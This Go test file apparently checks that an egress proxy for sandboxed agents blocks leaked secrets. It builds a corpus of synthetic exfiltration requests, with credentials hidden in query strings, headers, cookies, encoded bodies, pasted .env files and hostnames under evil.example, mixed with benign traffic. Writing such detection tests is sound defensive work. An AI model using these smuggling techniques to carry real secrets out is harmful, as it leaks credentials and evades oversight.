package pipelock

import (
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"sort"
	"strings"
	"testing"

	"github.com/claude-bottle/claude-bottle/internal/secretscan/secrettest"
	"github.com/claude-bottle/claude-bottle/internal/sidecarconfig"
)

// A corpus case is one request (or one CONNECT host) and whether it carries
// a secret. Every secret is generated at run time.
type corpusCase struct {
	class     string // the DLP class it exercises (gated on its own)
	name      string
	place     string // url, header, body, host
	malicious bool
	// request cases
	method, path, ctype, body string
	header                    http.Header
	// host cases: the CONNECT target (never resolved)
	host string
	// before are requests sent first (not counted), for rules that look
	// at several requests to one host.
	before []corpusCase
}

const corpusKnown = "Orchid-Lantern-5521-Tundra-Beacon"

func buildCorpus() []corpusCase {
	g := secrettest.New(2026)
	var cs []corpusCase
	add := func(c corpusCase) { cs = append(cs, c) }
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	b64u := func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }
	hx := func(s string) string { return hex.EncodeToString([]byte(s)) }

	// Malicious: every provider shape in every placement and encoding.
	for _, k := range secrettest.Kinds() {
		s := k.Make(g)
		one := strings.ReplaceAll(s, "\n", "\\n") // JSON-escaped form of a PEM
		multiline := strings.Contains(s, "\n")
		n := func(p string) string { return k.Name + "/" + p }
		if !multiline {
			add(corpusCase{name: n("query"), place: "url", malicious: true, method: "GET", path: "/api/search?q=" + url.QueryEscape(s) + "&page=1"})
			add(corpusCase{name: n("header"), place: "header", malicious: true, method: "GET", path: "/", header: http.Header{"X-Debug-Token": {s}}})
			add(corpusCase{name: n("cookie"), place: "header", malicious: true, method: "GET", path: "/", header: http.Header{"Cookie": {"theme=dark; sid=" + s}}})
		}
		add(corpusCase{name: n("path-base64url"), place: "url", malicious: true, method: "GET", path: "/upload/" + b64u(s) + "/done"})
		add(corpusCase{name: n("header-base64"), place: "header", malicious: true, method: "GET", path: "/", header: http.Header{"X-Blob": {b64(s)}}})
		add(corpusCase{name: n("json"), place: "body", malicious: true, method: "POST", path: "/v1/notes", ctype: "application/json",
			body: `{"title":"notes","text":"here it is: ` + one + `","tags":["a","b"]}`})
		add(corpusCase{name: n("form"), place: "body", malicious: true, method: "POST", path: "/submit", ctype: "application/x-www-form-urlencoded",
			body: url.Values{"comment": {"see " + s}, "page": {"3"}}.Encode()})
		mb, mct := multipartBody(map[string]string{"description": "report"}, "dump.txt", "line one\n"+s+"\nline three\n")
		add(corpusCase{name: n("multipart"), place: "body", malicious: true, method: "POST", path: "/files", ctype: mct, body: mb})
		add(corpusCase{name: n("body-hex"), place: "body", malicious: true, method: "POST", path: "/log", ctype: "text/plain", body: "payload=" + hx(s)})
		add(corpusCase{name: n("body-base64"), place: "body", malicious: true, method: "POST", path: "/log", ctype: "application/json", body: `{"data":"` + b64(s) + `"}`})
	}
	// Malicious: credential files sent whole (curl -d @file, base64 file).
	for i := range 4 {
		env := "# prod\nDATABASE_URL=postgres://app@db:5432/app\nAWS_REGION=us-east-1\nAWS_SECRET_ACCESS_KEY=" + g.Str("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 40) + "\nDEBUG=false\n"
		add(corpusCase{name: "dotenv-" + itoa64(int64(i)), place: "body", malicious: true, method: "POST", path: "/paste", ctype: "text/plain", body: env})
		add(corpusCase{name: "dotenv-form-" + itoa64(int64(i)), place: "body", malicious: true, method: "POST", path: "/paste", ctype: "application/x-www-form-urlencoded", body: url.Values{"content": {env}}.Encode()})
		key := secrettest.Kinds()[14].Make(g)
		add(corpusCase{name: "base64-wrapped-key-" + itoa64(int64(i)), place: "body", malicious: true, method: "POST", path: "/paste", ctype: "text/plain", body: wrapAt(b64(key), 76)})
		cfg := `{"auths":{"registry.example.com":{"auth":"` + b64("deploy:"+g.Str("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789", 32)) + `"}}}`
		add(corpusCase{name: "docker-config-" + itoa64(int64(i)), place: "body", malicious: true, method: "POST", path: "/paste", ctype: "application/json", body: cfg})
	}
	// Malicious: the bottle's own secret, every encoding and placement.
	ks := corpusKnown
	b32 := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(ks)), "="))
	for _, e := range []struct{ enc, v string }{
		{"plain", ks}, {"base64", b64("user:" + ks)}, {"base64url", b64u(ks)}, {"hex", hx(ks)},
		{"hex-upper", strings.ToUpper(hx(ks))}, {"urlenc", url.QueryEscape("k=" + ks)}, {"double-b64", b64(b64(ks))},
	} {
		add(corpusCase{name: "known/" + e.enc + "/query", place: "url", malicious: true, method: "GET", path: "/t?v=" + url.QueryEscape(e.v)})
		add(corpusCase{name: "known/" + e.enc + "/header", place: "header", malicious: true, method: "GET", path: "/", header: http.Header{"X-Note": {e.v}}})
		add(corpusCase{name: "known/" + e.enc + "/body", place: "body", malicious: true, method: "POST", path: "/", ctype: "text/plain", body: "note: " + e.v + "\n"})
	}
	// Malicious: data smuggled in host names (CONNECT targets).
	add(corpusCase{name: "host/known-hex", place: "host", malicious: true, host: hx(ks)[:48] + ".x.evil.example"})
	add(corpusCase{name: "host/known-base32", place: "host", malicious: true, host: b32[:40] + "." + b32[40:] + ".evil.example"})
	add(corpusCase{name: "host/known-plain", place: "host", malicious: true, host: strings.ToLower(ks) + ".evil.example"})
	for i := range 8 {
		s := secrettest.Kinds()[i].Make(g)
		h := strings.ToLower(hx(s))
		add(corpusCase{name: "host/hex-chunk-" + itoa64(int64(i)), place: "host", malicious: true, host: h[:min(60, len(h))] + ".d" + itoa64(int64(i)) + ".evil.example"})
		bs := strings.ToLower(strings.TrimRight(base32.StdEncoding.EncodeToString([]byte(s)), "="))
		add(corpusCase{name: "host/base32-chunk-" + itoa64(int64(i)), place: "host", malicious: true, host: bs[:min(50, len(bs))] + ".evil.example"})
	}
	add(corpusCase{name: "host/aws-lower", place: "host", malicious: true, host: strings.ToLower(secrettest.Kinds()[0].Make(g)) + "x.evil.example"})

	// Benign: ordinary agent traffic.
	benignGet := func(name, path string, h http.Header) {
		place := "url"
		if h != nil {
			place = "header"
		}
		add(corpusCase{name: "benign/" + name, place: place, method: "GET", path: path, header: h})
	}
	benignBody := func(name, ctype, body string) {
		add(corpusCase{name: "benign/" + name, place: "body", method: "POST", path: "/api", ctype: ctype, body: body})
	}
	for i := range 10 {
		benignGet("uuid-path-"+itoa64(int64(i)), "/v1/runs/"+g.UUID()+"/logs", nil)
		benignGet("sha-path-"+itoa64(int64(i)), "/repos/org/demo/commits/"+g.HexDigest(40), nil)
		benignGet("sha256-query-"+itoa64(int64(i)), "/blobs?digest=sha256:"+g.HexDigest(64), nil)
	}
	for i, q := range []string{
		"/search?q=golang+http+proxy&page=2&per_page=50",
		"/simple/requests/", "/packages/source/r/requests/requests-2.31.0.tar.gz",
		"/repos/claude-bottle/claude-bottle/pulls?state=open&sort=updated&direction=desc",
		"/v2/library/debian/manifests/bookworm-slim",
		"/api/v1/items?filter=status%3Dactive%20AND%20owner%3Dme&fields=id,name,updated_at",
		"/wiki/Special:Search?search=Transport+Layer+Security&go=Go",
		"/maps/api/place/details/json?place_id=ChIJN1t_tDeuEmsRUsoyG83frY4&fields=name,rating",
		"/graphql?operationName=GetRepo&variables=%7B%22owner%22%3A%22org%22%2C%22name%22%3A%22demo%22%7D",
		"/assets/app.3f9a2c1b.js", "/static/css/main.8e6c1a0d.chunk.css",
		"/v1/objects?cursor=" + b64u(`{"page":2,"after":"item_1042"}`),
		"/feed?since=2026-11-27T12:00:00Z&until=2026-11-27T13:00:00Z",
		"/download/v1.2.3/tool_linux_amd64.tar.gz",
		"/" + strings.Repeat("segment/", 30) + "end?" + strings.Repeat("a=1&", 40) + "z=2",
		"/api/v4/projects/1234/merge_requests/56/discussions",
		"/packages/npm/@types%2Fnode/-/node-20.11.5.tgz",
		"/tiles/12/2048/1360.png", "/en-US/docs/Web/HTTP/Headers/Cache-Control",
		"/oauth/authorize?response_type=code&client_id=my-app&redirect_uri=https%3A%2F%2Flocalhost%2Fcb&state=xyz123",
	} {
		benignGet("query-"+itoa64(int64(i)), q, nil)
	}
	headers := []http.Header{
		{"User-Agent": {"claude-cli/2.0.14 (external, cli)"}, "Accept": {"application/json"}},
		{"Traceparent": {"00-" + g.HexDigest(32) + "-" + g.HexDigest(16) + "-01"}},
		{"X-Request-Id": {g.UUID()}},
		{"If-None-Match": {`W/"` + g.HexDigest(32) + `"`}},
		{"Accept-Language": {"en-US,en;q=0.9"}, "Cache-Control": {"no-cache"}},
		{"Content-Digest": {"sha-256=:" + base64.StdEncoding.EncodeToString(g.Bytes(32)) + ":"}},
		{"Cookie": {"theme=dark; lang=en; consent=yes"}},
		{"X-Github-Api-Version": {"2022-11-28"}, "Accept": {"application/vnd.github+json"}},
		{"Referer": {"https://docs.example.org/guide/getting-started?tab=linux"}},
		{"Sec-Ch-Ua": {`"Chromium";v="128", "Not;A=Brand";v="24"`}},
		{"X-Amz-Content-Sha256": {g.HexDigest(64)}},
		{"Idempotency-Key": {g.UUID()}},
	}
	for i, h := range headers {
		benignGet("header-"+itoa64(int64(i)), "/", h)
	}
	for i := range 6 {
		img := base64.StdEncoding.EncodeToString(append([]byte("\x89PNG\r\n\x1a\n"), g.Bytes(3000+i*500)...))
		benignBody("base64-image-"+itoa64(int64(i)), "application/json", `{"type":"image","source":{"type":"base64","media_type":"image/png","data":"`+img+`"}}`)
	}
	for i := range 5 {
		benignBody("jsonl-ids-"+itoa64(int64(i)), "application/json", fmt.Sprintf(`{"id":"%s","parent":"%s","commit":"%s","status":"ok","count":%d}`, g.UUID(), g.UUID(), g.HexDigest(40), i))
	}
	code := "package main\n\nimport \"fmt\"\n\n// parseHeader splits a header line into its name and value.\nfunc parseHeader(line string) (string, string, error) {\n\ti := strings.IndexByte(line, ':')\n\tif i < 0 {\n\t\treturn \"\", \"\", fmt.Errorf(\"no colon in %q\", line)\n\t}\n\treturn line[:i], strings.TrimSpace(line[i+1:]), nil\n}\n"
	benignBody("code-json", "application/json", `{"model":"claude","messages":[{"role":"user","content":`+jsonQuote(code)+`}]}`)
	benignBody("code-plain", "text/plain", code)
	benignBody("markdown", "text/markdown", "# Release notes\n\n- Fixed the parser (#1234)\n- Bumped golang.org/x/net to v0.62.0\n- See https://example.org/changelog#v1.2.3\n")
	benignBody("form-login-ish", "application/x-www-form-urlencoded", url.Values{"q": {"weather in Paris"}, "lang": {"en"}, "page": {"1"}}.Encode())
	benignBody("jwt-shaped-cursor", "application/json", `{"next":"`+b64u(`{"offset":100,"limit":50}`)+`","prev":"`+b64u(`{"offset":0,"limit":50}`)+`"}`)
	benignBody("dotted-version", "application/json", `{"version":"eyeglass.1.2.3","build":"2026.11.27-rc.1"}`)
	benignBody("hash-list", "text/plain", strings.Repeat(g.HexDigest(64)+"  file.tar.gz\n", 20))
	benignBody("lockfile", "application/json", `{"packages":{"node_modules/left-pad":{"version":"1.3.0","resolved":"https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz","integrity":"sha512-`+base64.StdEncoding.EncodeToString(g.Bytes(64))+`"}}}`)
	benignBody("graphql", "application/json", `{"query":"query { repository(owner: \"org\", name: \"demo\") { issues(first: 20) { nodes { title number } } } }"}`)
	benignBody("sse-ack", "text/plain", "event: ping\ndata: {}\n\n")
	benignBody("csv", "text/csv", "id,name,created\n1,alpha,2026-01-01\n2,beta,2026-02-01\n")
	benignBody("yaml", "application/yaml", "name: demo\nsteps:\n  - run: go test ./...\n  - run: go vet ./...\n")
	mb, mct := multipartBody(map[string]string{"title": "logs"}, "build.log", "ok   github.com/x/y 0.5s\nok   github.com/x/z 1.2s\n")
	benignBody("multipart-log", mct, mb)
	// Benign near-misses for the credential-assignment rule.
	benignBody("env-placeholders", "text/plain", "API_KEY=your-api-key-goes-here\nSECRET_KEY=changeme-in-production\nDB_PASSWORD=${DB_PASSWORD}\n")
	benignBody("token-code", "text/plain", "token := tokenizer.NextToken()\nif token.Kind == TokenIdentifier {\n\tauthHeader := \"Bearer \" + os.Getenv(\"TOKEN\")\n}\n")
	benignBody("auth-type", "application/json", `{"auth_type":"OAuth2ClientCredentialsFlow","token_url":"https://auth.example.com/oauth/token","secret_name":"prod/payments/webhook-signing"}`)
	benignBody("k8s-secret-ref", "application/yaml", "env:\n  - name: DATABASE_PASSWORD\n    valueFrom:\n      secretKeyRef:\n        name: app-secrets-production\n        key: database-password\n")
	benignBody("gha-secrets", "application/yaml", "with:\n  password: ${{ secrets.REGISTRY_PASSWORD }}\n  token: ${{ github.token }}\n")
	benignBody("tokenizer-name", "application/json", `{"tokenizer":"bert-base-uncased-vocab-v2","max_tokens":4096,"access_level":"ReadOnlyCollaborator"}`)
	benignBody("uuid-array", "application/json", `["`+g.UUID()+`","`+g.UUID()+`","`+g.UUID()+`"]`)
	benignBody("empty-json", "application/json", `{}`)
	benignBody("unicode", "application/json", `{"text":"Größe: 12 €, 東京, emoji 🚀"}`)
	benignBody("percent-text", "text/plain", "progress: 45% done, 55% to go; 100%% sure")
	benignBody("sentry-event", "application/json", `{"event_id":"`+strings.ReplaceAll(g.UUID(), "-", "")+`","level":"error","platform":"node","message":"TypeError: cannot read properties of undefined"}`)
	benignBody("statsig", "application/json", `{"events":[{"eventName":"tengu_startup","time":1764240000000,"metadata":{"version":"2.0.14"}}]}`)

	// Benign host names: not allowlisted ordinary names must be refused by
	// the allowlist, not by a DLP rule.
	for _, h := range []string{"registry.npmjs.org", "files.pythonhosted.org", "d3a1b2c3d4e5f6.cloudfront.net",
		"prod-us-east-1-starport-layer-bucket.s3.us-east-1.amazonaws.com", "objects.githubusercontent.com",
		"my-loadbalancer-1234567890.us-west-2.elb.amazonaws.com", "xn--bcher-kva.example", "storage.googleapis.com",
		"ghcr.io", "proxy.golang.org", "sum.golang.org", "dl-cdn.alpinelinux.org", "deb.debian.org",
		"api.github.com", "codeload.github.com"} {
		add(corpusCase{name: "benign-host/" + h, place: "host", host: h})
	}
	cs = append(cs, classCorpus(g)...)
	for i := range cs {
		if cs[i].class != "" {
			continue
		}
		switch n := cs[i].name; {
		case strings.HasPrefix(n, "known/"):
			cs[i].class = "known"
		case strings.HasPrefix(n, "host/"), strings.HasPrefix(n, "benign-host/"):
			cs[i].class = "host"
		case strings.HasPrefix(n, "dotenv"), strings.HasPrefix(n, "benign/env-"), strings.HasPrefix(n, "benign/token-code"),
			strings.HasPrefix(n, "benign/auth-type"), strings.HasPrefix(n, "benign/k8s"), strings.HasPrefix(n, "benign/gha"):
			cs[i].class = "assignment"
		default:
			cs[i].class = "credential"
		}
	}
	return cs
}

func wrapAt(s string, n int) string {
	var b strings.Builder
	for len(s) > n {
		b.WriteString(s[:n] + "\n")
		s = s[n:]
	}
	b.WriteString(s)
	return b.String()
}

func jsonQuote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch r {
		case '"', '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case '\n':
			b.WriteString(`\n`)
		case '\t':
			b.WriteString(`\t`)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func multipartBody(fields map[string]string, fileName, content string) (string, string) {
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	keys := make([]string, 0, len(fields))
	for k := range fields {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		_ = w.WriteField(k, fields[k])
	}
	fw, _ := w.CreateFormFile("file", fileName)
	_, _ = io.WriteString(fw, content)
	_ = w.Close()
	return b.String(), w.FormDataContentType()
}

// TestCorpus runs every case through a real pipelock (HTTPS, intercepted)
// and fails if, in any class or any placement, it blocks under 99% of the
// malicious cases or over 1% of the benign ones.
func TestCorpus(t *testing.T) {
	cases := buildCorpus()
	r := newRig(t, rigOpts{
		cfg: sidecarconfig.Pipelock{Allowlist: []string{"localhost", "*.wild.test"}, KnownSecretEnv: []string{"PIPELOCK_SECRET_0"}},
		env: map[string]string{"PIPELOCK_SECRET_0": corpusKnown},
	})
	gate := newCorpusGate("blocked")
	for _, c := range cases {
		blocked, why := runCase(t, r, c)
		gate.add(c.name, c.malicious, blocked, why, "place "+c.place, "class "+c.class)
	}
	gate.check(t, "corpus", 1000, "PIPELOCK_CORPUS_OUT")
}

// runCase sends one case and reports whether it was blocked (and why).
// A host case counts as blocked by DLP only if a dlp.* rule refused it.
func runCase(t *testing.T, r *rig, c corpusCase) (bool, string) {
	t.Helper()
	if c.place == "host" {
		conn, resp, err := r.connect(c.host + ":443")
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		defer conn.Close()
		if resp.StatusCode == http.StatusOK {
			return false, "tunnel open" // admitted (a wildcard entry); nothing more to read
		}
		b, _ := io.ReadAll(resp.Body)
		return resp.StatusCode == 403 && strings.Contains(string(b), "(rule: dlp."), strings.TrimSpace(string(b))
	}
	for _, b := range c.before {
		req, err := http.NewRequest(b.method, r.httpsURL(b.path), nil)
		if err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
		if _, _, err := r.do(req); err != nil {
			t.Fatalf("%s: %v", c.name, err)
		}
	}
	var body io.Reader
	if c.body != "" {
		body = strings.NewReader(c.body)
	}
	req, err := http.NewRequest(c.method, r.httpsURL(c.path), body)
	if err != nil {
		t.Fatalf("%s: %v", c.name, err)
	}
	for k, vs := range c.header {
		req.Header[k] = vs
	}
	if c.ctype != "" {
		req.Header.Set("Content-Type", c.ctype)
	}
	st, rb, err := r.do(req)
	if err != nil {
		t.Fatalf("%s: %v", c.name, err)
	}
	if st != 403 && st != 200 {
		t.Fatalf("%s: unexpected status %d %q", c.name, st, rb)
	}
	return st == 403, strings.TrimSpace(rb)
}
